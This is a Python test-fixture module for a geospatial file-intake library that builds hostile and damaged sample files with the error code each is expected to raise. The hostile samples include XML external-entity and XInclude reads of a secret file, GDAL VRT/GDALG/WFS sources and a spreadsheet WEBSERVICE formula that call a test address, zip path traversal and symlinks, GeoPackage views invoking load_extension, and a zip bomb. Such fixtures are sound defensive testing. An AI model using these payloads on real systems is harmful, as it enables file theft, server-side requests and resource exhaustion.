"""Bad and hostile files, made by script: what they are called, what they hold, what must come of
them.

``attacks`` are files that have made careless readers open other files or call other machines.
``faults`` are files that people really send. Each names the error code that it must end in; an
attack without a code may be read, as long as nothing leaks and nothing is called.
"""

from __future__ import annotations

import io
import json
import sqlite3
import stat
import struct
import tomllib
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import geopandas as gpd
import openpyxl
import shapely

from geo.errors import IntakeError
from geo.intake.raw import RawTable

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SECRET = "TOP-SECRET-LEAK"


@dataclass(frozen=True)
class Sample:
    """One file: a label, its name, its bytes, and the code it must end in (None: may be read)."""

    label: str
    name: str
    content: bytes
    code: str | None


@dataclass
class Outcome:
    """What reading a sample came to."""

    sample: Sample
    tables: list[RawTable] = field(default_factory=list)
    error: IntakeError | None = None


@dataclass
class Listener:
    """A server that only counts who calls."""

    url: str
    calls: list[object] = field(default_factory=list)


def chinese(error: IntakeError) -> str:
    """Return an error's Chinese sentence, filled with its facts."""
    folder = Path(__file__).parents[3] / "ui/wording/errors_zh"
    texts = (folder / f"{error.code.partition('.')[0]}.toml").read_text("utf-8")
    sentence: str = tomllib.loads(texts)[error.code]
    return sentence.format(**error.facts)


def write_secret(folder: Path) -> Path:
    """Write a small CSV that an attack tries to read."""
    path = folder / "secret.csv"
    path.write_text(f"name,lon,lat\n{SECRET},118.6,24.9\n", encoding="utf-8")
    return path


def vrt(source: str) -> bytes:
    """Return an OGR virtual layer that points to another source."""
    return (
        f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{source}</SrcDataSource>'
        "<GeometryType>wkbNone</GeometryType></OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


def gdalg(source: str) -> bytes:
    """Return a GDALG pipeline that reads another source."""
    return json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {source}"}
    ).encode()


def wfs(url: str) -> bytes:
    """Return a WFS description that asks a server."""
    return f"<OGRWFSDataSource><URL>{url}</URL></OGRWFSDataSource>".encode()


def zipped(*members: tuple[str, bytes]) -> bytes:
    """Return a zip of the members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def collection(*features: dict, **members: object) -> bytes:
    """Return a GeoJSON FeatureCollection."""
    body = {"type": "FeatureCollection", "features": list(features), **members}
    return json.dumps(body, ensure_ascii=False).encode()


def feature(geometry: object, **properties: object) -> dict:
    """Return one GeoJSON feature."""
    return {"type": "Feature", "properties": properties, "geometry": geometry}


def point(lon: object = 118.6, lat: object = 24.9) -> dict:
    """Return a GeoJSON point."""
    return {"type": "Point", "coordinates": [lon, lat]}


def workbook(rows: list[list[object]]) -> bytes:
    """Return an XLSX with one sheet."""
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def edited_zip(content: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    """Return a zip in which one member's bytes were changed (or added where missing)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            data = old.read(info)
            new.writestr(info.filename, change(data) if info.filename == member else data)
        if member not in old.namelist():
            new.writestr(member, change(b""))
    return out.getvalue()


def stray_cell(cell: str = "XFD1048576") -> bytes:
    """Return a tiny XLSX with one more cell in the farthest corner of the sheet."""
    row = "".join(ch for ch in cell if ch.isdigit())
    extra = f'<row r="{row}"><c r="{cell}"><v>1</v></c></row></sheetData>'.encode()
    book = workbook([["名称", "经度", "纬度"], ["甲", 118.6, 24.9]])
    return edited_zip(
        book, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"</sheetData>", extra)
    )


def layer_files(rows: gpd.GeoDataFrame, folder: Path, **options: object) -> dict[str, bytes]:
    """Return the parts of a Shapefile by ending."""
    rows.to_file(folder / "part.shp", driver="ESRI Shapefile", **options)
    return {p.suffix[1:]: p.read_bytes() for p in folder.glob("part.*")}


def points_frame(count: int = 50) -> gpd.GeoDataFrame:
    """Return a small layer of points with Chinese names."""
    shapes = [shapely.Point(118.5 + 0.001 * i, 24.9) for i in range(count)]
    names = [f"丰州镇活动室{i}" for i in range(count)]
    return gpd.GeoDataFrame({"名称": names}, geometry=shapes, crs="EPSG:4326")


def zipped_parts(parts: dict[str, bytes], stem: str = "rooms") -> bytes:
    """Return a zip of Shapefile parts."""
    return zipped(*((f"{stem}.{ending}", content) for ending, content in parts.items()))


def geopackage(folder: Path, *statements: str) -> bytes:
    """Return a GeoPackage after some SQL was run on it."""
    path = folder / "made.gpkg"
    path.unlink(missing_ok=True)
    points_frame(3).to_file(path, driver="GPKG", layer="rooms")
    with sqlite3.connect(path) as database:
        for statement in statements:
            database.execute(statement)
    database.close()
    return path.read_bytes()


def _contents_row(table: str) -> str:
    return (
        "INSERT INTO gpkg_contents (table_name, data_type, identifier) "
        f"VALUES ('{table}', 'attributes', '{table}')"
    )


def _writable_schema(sql: str, table: str) -> tuple[str, ...]:
    text = sql.replace("'", "''")
    return (
        "PRAGMA writable_schema = ON",
        "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
        f"VALUES ('table', '{table}', '{table}', 0, '{text}')",
        _contents_row(table),
    )


def symlink_zip(target: str) -> bytes:
    """Return a zip whose .shp is a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for ending in ("shp", "shx", "dbf"):
            info = zipfile.ZipInfo(f"rooms.{ending}")
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return out.getvalue()


def attacks(folder: Path, *, secret: Path, url: str) -> list[Sample]:
    """Return the hostile files.

    Parameters
    ----------
    folder : Path
        Where files may be made.
    secret : Path
        A file that no reader may open.
    url : str
        An address that no reader may call.
    """
    parts = layer_files(points_frame(), folder)
    named = feature(point(), name="甲")
    link = {"type": "link", "properties": {"href": url, "type": "proj4"}}
    by_name = {"type": "name", "properties": {"name": url}}
    esri = {"displayFieldName": url, "features": [], "fields": []}
    network = f"<NetworkLink><Link><href>{url}</href></Link></NetworkLink>"
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" parse="text" href="{secret}"/>'
    gml = f'<gml:FeatureCollection xmlns:gml="g" xsi:schemaLocation="{url} {url}"/>'
    rels = f'<Relationships><Relationship Id="r" Target="{url}" TargetMode="External"/>'
    link_part = "xl/externalLinks/_rels/externalLink1.xml.rels"
    climb = "../../../climbed"
    entity = f'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY x SYSTEM "file://{secret}">]>'
    kml = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
    place = "<Placemark><name>甲</name><Point><coordinates>118.6,24.9</coordinates></Point>{}"
    place += "</Placemark>"
    book = workbook([["名称"], ["甲"]])
    sheet = "xl/worksheets/sheet1.xml"
    outside = {**parts, "prj": f"+proj=longlat +nadgrids={url}".encode()}
    bound = b'BOUNDCRS[SOURCECRS[GEOGCRS["x"]],ABRIDGEDTRANSFORMATION["x",METHOD["NTv2"],'
    bound += f'PARAMETERFILE["grid","{url}"]]]'.encode()
    no = "intake.not_supported"
    return [
        Sample("vrt as geojson", "a.geojson", vrt(str(secret)), no),
        Sample("vrt as gpkg", "a.gpkg", vrt(str(secret)), no),
        Sample("vrt as shp", "a.shp", vrt(str(secret)), no),
        Sample("vrt as csv", "a.csv", vrt(str(secret)), no),
        Sample("vrt as kml", "a.kml", vrt(str(secret)), no),
        Sample("vrt to an address", "a.geojson", vrt(f"/vsicurl/{url}"), no),
        Sample("vrt in a zip", "a.zip", zipped(("a.vrt", vrt(str(secret)))), no),
        Sample(
            "vrt as shp in a zip",
            "a.zip",
            zipped_parts({**parts, "shp": vrt(str(secret))}),
            "intake.damaged",
        ),
        Sample("gdalg as geojson", "a.geojson", gdalg(str(secret)), "intake.not_geojson"),
        Sample("gdalg as json", "a.json", gdalg(url), "intake.not_geojson"),
        Sample("gdalg as gpkg", "a.gpkg", gdalg(str(secret)), "intake.mislabelled"),
        Sample("gdalg as csv", "a.csv", gdalg(str(secret)), "intake.mislabelled"),
        Sample("gdalg as shp", "a.shp", gdalg(str(secret)), "intake.not_geojson"),
        Sample("gdalg as kml", "a.kml", gdalg(str(secret)), "intake.mislabelled"),
        Sample("gdalg as fgb", "a.fgb", gdalg(url), "intake.mislabelled"),
        Sample(
            "gdalg as shp in a zip",
            "a.zip",
            zipped_parts({**parts, "shp": gdalg(str(secret))}),
            "intake.damaged",
        ),
        Sample(
            "vrt as kml in a zip", "a.kmz", zipped(("doc.kml", vrt(str(secret)))), "intake.empty"
        ),
        Sample("an address as csv", "a.csv", f"name\n{url}\n/vsicurl/{url}\n".encode(), None),
        Sample("gdalg in a zip", "a.zip", zipped(("a.gdalg.json", gdalg(str(secret)))), no),
        Sample("wfs as geojson", "a.geojson", wfs(url), no),
        Sample("wfs as kml", "a.kml", wfs(url), no),
        Sample("crs behind a link", "a.geojson", collection(named, crs=link), "intake.crs_link"),
        Sample("crs named by an address", "a.geojson", collection(named, crs=by_name), None),
        Sample("esri json with a url", "a.json", json.dumps(esri).encode(), "intake.not_geojson"),
        Sample("kml network link", "a.kml", kml.format(network + place.format("")).encode(), None),
        Sample(
            "kml external entity",
            "a.kml",
            (entity + kml.format(place.format("&x;"))).encode(),
            "intake.xml_entities",
        ),
        Sample(
            "kml schema and style links",
            "a.kml",
            kml.format(
                f'<Schema id="s" schemaUrl="{url}"/>' + place.format(f"<styleUrl>{url}</styleUrl>")
            ).encode(),
            None,
        ),
        Sample("kml xinclude", "a.kml", kml.format(include + place.format("")).encode(), None),
        Sample("gml with schema location", "a.kml", gml.encode(), no),
        Sample(
            "xlsx with an entity",
            "a.xlsx",
            edited_zip(
                book, sheet, lambda x: x.replace(b"<worksheet", entity.encode() + b"<worksheet", 1)
            ),
            None,
        ),
        Sample(
            "xlsx with an external link",
            "a.xlsx",
            edited_zip(book, link_part, lambda _: rels.encode()),
            None,
        ),
        Sample(
            "csv with a formula that calls",
            "a.csv",
            f'name,x\n"=WEBSERVICE(""{url}"")",1\n'.encode(),
            None,
        ),
        Sample(
            "zip that climbs out",
            "a.zip",
            zipped_parts(parts, stem="../../../../tmp/climbed"),
            None,
        ),
        Sample("zip with absolute names", "a.zip", zipped_parts(parts, stem="/tmp/climbed"), None),
        Sample("zip of links", "a.zip", symlink_zip(str(secret)), "intake.damaged"),
        Sample("prj that names a grid", "a.zip", zipped_parts(outside), None),
        Sample("prj bound to a grid", "a.zip", zipped_parts({**parts, "prj": bound}), None),
        Sample(
            "gpkg layer called a path",
            "a.gpkg",
            geopackage(
                folder,
                f'CREATE TABLE "{climb}" (name TEXT)',
                f"INSERT INTO \"{climb}\" VALUES ('甲')",
                _contents_row(climb),
            ),
            None,
        ),
        Sample(
            "gpkg view that loads code",
            "a.gpkg",
            geopackage(
                folder,
                f"CREATE VIEW v AS SELECT load_extension('{secret}') AS name",
                _contents_row("v"),
            ),
            None,
        ),
        Sample(
            "gpkg view that opens a source",
            "a.gpkg",
            geopackage(
                folder,
                f"CREATE VIEW v AS SELECT ogr_datasource_load_layers('{secret}') AS name",
                _contents_row("v"),
            ),
            None,
        ),
        Sample(
            "gpkg virtual table",
            "a.gpkg",
            geopackage(
                folder,
                *_writable_schema(f"CREATE VIRTUAL TABLE v USING VirtualOGR('{secret}')", "v"),
            ),
            None,
        ),
    ]


def faults(folder: Path) -> list[Sample]:
    """Return the files that people really send, and one or two that nobody should."""
    frame = points_frame()
    parts = layer_files(frame, folder)
    for driver, name in (("FlatGeobuf", "made.fgb"), ("GPKG", "whole.gpkg")):
        (folder / name).unlink(missing_ok=True)
        frame.to_file(folder / name, driver=driver)
    flat, package = (folder / "made.fgb").read_bytes(), (folder / "whole.gpkg").read_bytes()
    rows = [["名称", "经度", "纬度"]] + [[f"甲{i}", 118.6, 24.9] for i in range(200)]
    book = workbook(rows)
    csv = "\n".join(",".join(map(str, row)) for row in rows)
    json_text = collection(*(feature(point(), name=f"甲{i}") for i in range(50)))
    kml = "<kml><Document>" + "<Placemark><name>甲</name></Placemark>" * 9 + "</Document></kml>"
    fewer = {**parts, "dbf": _dbf_with(parts["dbf"], rows=49)}
    locked = bytearray(zipped(("a.shp", b"x")))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + offset] |= 1
    return [
        Sample("workbook with a password", "a.xlsx", _locked_book(), "intake.encrypted"),
        Sample("old workbook, noise", "a.xls", _OLE + bytes(600), "intake.damaged"),
        Sample("old workbook called csv", "a.csv", _OLE + b"\1" * 600, "intake.mislabelled"),
        Sample("nothing", "a.csv", b"", "intake.empty_file"),
        Sample("blanks only", "a.csv", b" \n \n", "intake.empty_file"),
        Sample("header only", "a.csv", "名称,经度\n".encode(), "intake.empty"),
        Sample("header only xlsx", "a.xlsx", workbook([["名称", "经度"]]), "intake.empty"),
        Sample("no feature", "a.geojson", collection(), "intake.empty"),
        Sample("half an xlsx", "a.xlsx", book[: len(book) // 2], "intake.damaged"),
        Sample(
            "xlsx with a broken sheet",
            "a.xlsx",
            edited_zip(book, "xl/worksheets/sheet1.xml", lambda x: x[: len(x) // 2]),
            "intake.damaged",
        ),
        Sample("half a zip", "a.zip", zipped_parts(parts)[:600], "intake.damaged"),
        Sample(
            "half a shp",
            "a.zip",
            zipped_parts({**parts, "shp": parts["shp"][:800]}),
            "intake.damaged",
        ),
        Sample(
            "half a shx",
            "a.zip",
            zipped_parts({**parts, "shx": parts["shx"][:200]}),
            "intake.damaged",
        ),
        Sample(
            "half a dbf",
            "a.zip",
            zipped_parts({**parts, "dbf": parts["dbf"][:900]}),
            "intake.damaged",
        ),
        Sample("shp and dbf differ", "a.zip", zipped_parts(fewer), "intake.damaged"),
        Sample("shp without dbf", "a.zip", zipped_parts(_but(parts, "dbf")), "intake.shp_part"),
        Sample("shp without shx", "a.zip", zipped_parts(_but(parts, "shx")), "intake.shp_part"),
        Sample("shp alone", "a.shp", parts["shp"], "intake.not_supported"),
        Sample("half a gpkg", "a.gpkg", package[:5000], "intake.damaged"),
        Sample(
            "gpkg with a torn page",
            "a.gpkg",
            package[:4096] + b"\x7f" * (len(package) - 4096),
            "intake.damaged",
        ),
        Sample("sqlite, no gpkg", "a.gpkg", _sqlite(folder), "intake.not_geopackage"),
        Sample("half a geojson", "a.geojson", json_text[: len(json_text) // 2], "intake.json"),
        Sample("half a kml", "a.kml", kml[: len(kml) // 2].encode(), "intake.xml"),
        Sample("half a fgb", "a.fgb", flat[: len(flat) // 2], "intake.damaged"),
        Sample("fgb with noise", "a.fgb", flat[:60] + b"\xff" * 400, "intake.damaged"),
        Sample("xlsx called csv", "a.csv", book, "intake.mislabelled"),
        Sample("csv called xlsx", "a.xlsx", csv.encode(), "intake.mislabelled"),
        Sample("geojson called gpkg", "a.gpkg", json_text, "intake.mislabelled"),
        Sample("gpkg called geojson", "a.geojson", package, "intake.mislabelled"),
        Sample(
            "web page called xls",
            "a.xls",
            b"<html><table><tr><td>a</td></tr></table>",
            "intake.not_supported",
        ),
        Sample("pdf called xlsx", "a.xlsx", b"%PDF-1.7\n1 0 obj", "intake.not_supported"),
        Sample(
            "word called xlsx",
            "a.xlsx",
            zipped(("word/document.xml", b"<w/>")),
            "intake.not_supported",
        ),
        Sample(
            "zip of a zip",
            "a.zip",
            zipped(("b.zip", zipped(("c.shp", b"")))),
            "intake.not_supported",
        ),
        Sample("locked zip", "a.zip", bytes(locked), "intake.encrypted"),
        Sample(
            "latin letters, no encoding fits",
            "a.csv",
            "name,x\ncafé,1\n".encode("latin-1"),
            "intake.encoding",
        ),
        Sample("utf-16 without a mark", "a.csv", csv.encode("utf-16-le"), "intake.binary"),
        Sample(
            "a lone quotation mark", "a.csv", 'name,x\n"甲,1\n乙,2\n'.encode(), "intake.damaged"
        ),
        Sample("deep json", "a.geojson", b'{"type":' + b"[" * 200_000, "intake.too_deep"),
        Sample("deep kml", "a.kml", b"<kml>" + b"<Folder>" * 200_000, "intake.xml"),
        Sample("topojson", "a.json", b'{"type":"Topology","objects":{}}', "intake.not_geojson"),
        Sample("stray cell", "a.xlsx", stray_cell(), "intake.memory"),
        Sample("zip bomb", "a.xlsx", _bomb(), "intake.unpacked"),
        Sample(
            "many members",
            "a.zip",
            zipped(*((f"{i}.txt", b"") for i in range(1500))),
            "intake.members",
        ),
    ]


def _locked_book() -> bytes:
    """Return the outside of an encrypted workbook: an OLE container that names its content."""
    return _OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le")


def _but(parts: dict[str, bytes], ending: str) -> dict[str, bytes]:
    return {key: content for key, content in parts.items() if key != ending}


def _bomb() -> bytes:
    """Return 20 MB of zeros, listed 64 times in the directory of one small zip."""
    single = zipped(("xl/worksheets/sheet1.xml", bytes(20_000_000)))
    start, end = single.index(b"PK\x01\x02"), single.index(b"PK\x05\x06")
    entry, tail = single[start:end], bytearray(single[end:])
    struct.pack_into("<HHI", tail, 8, 64, 64, 64 * len(entry))
    return single[:start] + entry * 64 + bytes(tail)


def _dbf_with(table: bytes, *, rows: int) -> bytes:
    return table[:4] + struct.pack("<I", rows) + table[8:]


def _sqlite(folder: Path) -> bytes:
    path = folder / "plain.sqlite"
    path.unlink(missing_ok=True)
    with sqlite3.connect(path) as database:
        database.execute("CREATE TABLE rooms (name TEXT)")
    database.close()
    return path.read_bytes()
